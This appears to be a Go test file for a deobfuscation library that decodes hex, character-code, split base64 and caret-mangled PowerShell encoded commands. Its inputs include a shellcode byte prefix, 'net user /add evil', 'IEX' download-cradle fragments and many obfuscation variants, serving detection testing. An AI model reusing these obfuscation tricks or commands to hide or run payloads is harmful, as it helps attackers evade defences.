package unpack

import (
	"encoding/hex"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// codes writes each byte of s by a format, with sep between them.
func codes(s, format, sep string) string {
	var out []string
	for _, b := range []byte(s) {
		out = append(out, fmt.Sprintf(format, b))
	}
	return strings.Join(out, sep)
}

func TestHex(t *testing.T) {
	digits := hex.EncodeToString([]byte(script))
	one := []row{text(1, "hex", script)}
	hello := []row{text(1, "hex", "hello")}
	shellcode := "\xfc\xe8\x82\x00\x00\x00\x60\x89\xe5\x31\xc0\x64\x8b\x50\x30\x8b\x52\x0c\x8b\x52\x14\x8b\x72\x28\x0f\xb7\x4a\x26"
	for _, tt := range []struct {
		name, in string
		want     []row
	}{
		{"digits", "x " + digits, one},
		{"capitals", "x=" + strings.ToUpper(digits) + ";", one},
		{"0x", "echo 0x68656c6c6f", hello},
		{"0x, long", "DECLARE @s varchar(99) SET @s=CAST(0x" + digits + " AS varchar(99))", one},
		{"announced", "bytes.fromhex('68656c6c6f')", hello},
		{"escapes", `printf "\x68\x65\x6c\x6c\x6f"`, hello},
		{"escapes in JSON", `{"x":"\\x68\\x65\\x6c\\x6c\\x6f"}`, hello},
		{"escapes of UTF-16 units", `eval("\u0068\u0065\u006c\u006c\u006f")`, hello},
		{"list", "$b = " + codes(script, "0x%02x", ","), one},
		{"list with blanks", "$b = " + codes(script, "0x%02X", ", "), one},
		{"list of bytes", "[Byte[]] $buf = " + codes(shellcode, "0x%02x", ","), []row{kind(1, "hex", "binary")}},
		{"wide", "x " + hex.EncodeToString(wide("net user /add evil")), []row{
			{1, "hex", "text", "utf-16le", "", "net user /add evil"},
		}},
		{"gzip", "x " + hex.EncodeToString(packed(t, "gzip", []byte(script))), []row{
			kind(1, "hex", "gzip"), text(2, "gzip", script),
		}},
		{"program", "reg add x /d 4d5a90000300000004000000ffff0000b800000000000000", []row{kind(1, "hex", "pe")}},
		{"base64 inside", "x " + hex.EncodeToString([]byte("powershell -enc "+b64(wide("whoami /all")))), []row{
			text(1, "hex", "powershell -enc "+b64(wide("whoami /all"))), text16(2, "whoami /all"),
		}},
		{"put together", "$x='" + digits[:50] + "'+'" + digits[50:] + "'", one},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, rows(New(Limits{}).Unpack(tt.in))); diff != "" {
				t.Errorf("%.200s\n(-want +got)\n%s", tt.in, diff)
			}
		})
	}
}

func TestCharCodes(t *testing.T) {
	const s = "IEX $a.Download"
	want := []row{text(1, "charcode", s)}
	for _, in := range []string{
		codes(s, "[char]%d", "+"),
		codes(s, "[CHAR]0x%x", " + "),
		"&(" + codes(s, "[char](%d)", "+") + ")",
		"(" + codes(s, "[string][char]%d", "+") + ")",
		codes(s, "[char][int]'%d'", "+"),
		"(" + codes(s, "[char]%d", ",") + ") -join ''",
		"-join(" + codes(s, "[char]%d", ",") + ")",
		"-join [char[]](" + codes(s, "%d", ",") + ")",
		"([char[]]@(" + codes(s, "%d", ", ") + ") -join '')",
		"IEX(\"" + codes(s, "%d", ",") + "\".split(',')|%{[char]$_})",
		"'" + codes(s, "%d", " ") + "' -split ' ' | ForEach-Object { [char][int]$_ }",
		"(" + codes(s, "%d", ",") + "|%{[char]$_}) -join ''",
		"'" + codes(s, "%d", "W") + "'.Split('W')|%{[char][int]$_}",
		"'" + codes(s, "%x", ",") + "'.Split(',')|%{[char]([convert]::ToInt32($_,16))}",
		"'" + codes(s, "0x%x", " ") + "'.Split(' ')|%{[char][int]$_}",
		"eval(String.fromCharCode(" + codes(s, "%d", ",") + "))",
		"eval(" + codes(s, "String.fromCharCode(%d)", "+") + ")",
		"eval(String.fromCharCode(" + codes(s, "0x%x", ",") + "))",
		"Execute " + codes(s, "Chr(%d)", "&"),
		"Execute " + codes(s, "ChrW(&H%X)", " & _\n  "),
		"exec(" + codes(s, "chr(%d)", "+") + ")",
		"eval(" + codes(s, "chr(%d)", ".") + ");",
		"EXEC(" + codes(s, "CHAR(%d)", "+") + ")",
		"SELECT char(" + codes(s, "%d", ",") + ")",
		"[Text.Encoding]::ASCII.GetString([byte[]](" + codes(s, "%d", ",") + "))",
		"[Text.Encoding]::UTF8.GetString((" + codes(s, "0x%02x", ",") + "))",
		"[byte[]]$x=" + codes(s, "%d", ",") + ";",
		"[byte[]] $x = @(" + codes(s, "%d", ", ") + ")",
		"exec(bytes([" + codes(s, "%d", ", ") + "]))",
	} {
		got := rows(New(Limits{}).Unpack(in))
		for i := range got {
			if got[i].Encoding == "hex" {
				got[i].Encoding = "charcode" // both name 0x68,0x65
			}
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s\n(-want +got)\n%s", in, diff)
		}
	}
}

func TestJoined(t *testing.T) {
	b := b64([]byte(script))
	short := b64([]byte("hello"))
	call := func(s string) string {
		return "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(" + s + "))"
	}
	decoded := []row{text(1, "base64", script)}
	hello := []row{text(1, "base64", "hello")}
	pieces := "'" + b[:20] + "','" + b[20:50] + "','" + b[50:] + "'"
	for _, tt := range []struct {
		name, in string
		want     []row
	}{
		{"plus", call("'" + short[:4] + "'+'" + short[4:] + "'"), hello},
		{"quotes of the other kind", call(`"` + short[:3] + `" + "` + short[3:] + `"`), hello},
		{"escaped quotes", `{"c":"` + call(`\"`+short[:3]+`\"+\"`+short[3:]+`\"`) + `"}`, hello},
		{"named elsewhere", "$x='" + short[:4] + "'+'" + short[4:] + "'; " + call("$x"), hello},
		{"many", call(strings.ReplaceAll(pieces, ",", "+")), decoded},
		{"with brackets", call("('" + b[:30] + "')+('" + b[30:] + "')"), decoded},
		{"behind an option", "powershell -enc ('" + b64(wide("dir"))[:4] + "'+'" + b64(wide("dir"))[4:] + "')", []row{text16(1, "dir")}},
		{"ampersands", `x = "` + b[:20] + `" & "` + b[20:] + `"`, decoded},
		{"dots", `base64_decode('` + b[:20] + `'.'` + b[20:] + `')`, decoded},
		{"with a character", call("'" + short[:4] + "'+[char]" + fmt.Sprint(short[4]) + "+'" + short[5:] + "'"), hello},
		{"-join behind", call("(" + pieces + ") -join ''"), decoded},
		{"-join before", call("-join(" + pieces + ")"), decoded},
		{"Join", call("[string]::Join('', (" + pieces + "))"), decoded},
		{"join in JavaScript", "atob([" + pieces + "].join(''))", decoded},
		{"join in Python", "b64decode(''.join([" + pieces + "]))", decoded},
		{"format", call("(\"{2}{0}{1}\" -f '" + b[20:50] + "','" + b[50:] + "','" + b[:20] + "')"), decoded},
		{"Replace", call("'" + b[:10] + "!!" + b[10:] + "'.Replace('!!','')"), decoded},
		{"Replace, twice", call("'" + b[:10] + "!!" + b[10:40] + "??" + b[40:] + "'.Replace('!!','').Replace('??','')"), decoded},
		{"-replace", call("('" + b[:10] + "_x_" + b[10:] + "' -replace '_X_','')"), decoded},
		{"-creplace of a mark", call("('" + b[:10] + "$" + b[10:] + "' -creplace '\\$','')"), decoded},
		{"VBA's Replace", `x = Decode64(Replace("` + b[:10] + "~" + b[10:] + `", "~", ""))`, decoded},
		{"here-string", "$x = @'\n" + b[:7] + "\n" + b[7:33] + "\n" + b[33:] + "\n'@", decoded},
		{"lines in a literal", call("'" + b[:7] + "\r\n" + b[7:33] + "\r\n" + b[33:] + "'"), decoded},

		{"a text", "(New-Object Net.WebClient).DownloadString(('ht'+'tp://exa'+'mple.com/a'))", []row{text(1, "join", "http://example.com/a")}},
		{"a format in it", `('ht'+("{1}{0}"-f'://x','tp')+'.example'+'.com/')`, []row{text(1, "join", "http://x.example.com/")}},
		{"layers below", "iex ('powers'+'hell -enc " + b64(wide("dir c:")) + "')", []row{
			text(1, "join", "powershell -enc "+b64(wide("dir c:"))), text16(2, "dir c:"),
		}},
		{"a text of lists", "&(-join ('Invoke','-Expr','ession'))", []row{text(1, "join", "Invoke-Expression")}},
		{"a character among literals", "'Invoke-E'+[char]120+'pression'", []row{text(1, "join", "Invoke-Expression")}},
		{"the pieces where the whole is none", "'" + b + "'+'~~~~'+$x", decoded},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, rows(New(Limits{}).Unpack(tt.in))); diff != "" {
				t.Errorf("%s\n(-want +got)\n%s", tt.in, diff)
			}
		})
	}
}

func TestNoisyOptions(t *testing.T) {
	arg := b64(wide("whoami /all"))
	want := []row{text16(1, "whoami /all")}
	const full = "encodedcommand"
	for n := 1; n <= len(full); n++ {
		for _, dash := range []string{"-", "/", "\u2013"} {
			in := "powershell " + dash + full[:n] + " " + arg
			if diff := cmp.Diff(want, rows(New(Limits{}).Unpack(in))); diff != "" {
				t.Errorf("%s\n(-want +got)\n%s", in, diff)
			}
		}
	}
	for _, in := range []string{
		"cmd /c p^ow^ersh^ell -^e^n^c " + arg,
		`powershell -"enc" ` + arg,
		`powershell -e"n"c ` + arg,
		"powershell -e`nc " + arg,
		"pow^ershell -e " + arg,
		`"p"owershell -E ` + arg,
		"powershell -enc " + arg[:10] + "^" + arg[10:],
		"powershell -enc ^" + codes(arg, "%c", "^"),
		`powershell -enc "` + arg[:10] + `""` + arg[10:] + `"`,
		"powershell -enc '" + arg[:10] + "'\"" + arg[10:] + "\" -nop",
	} {
		if diff := cmp.Diff(want, rows(New(Limits{}).Unpack(in))); diff != "" {
			t.Errorf("%s\n(-want +got)\n%s", in, diff)
		}
	}
}
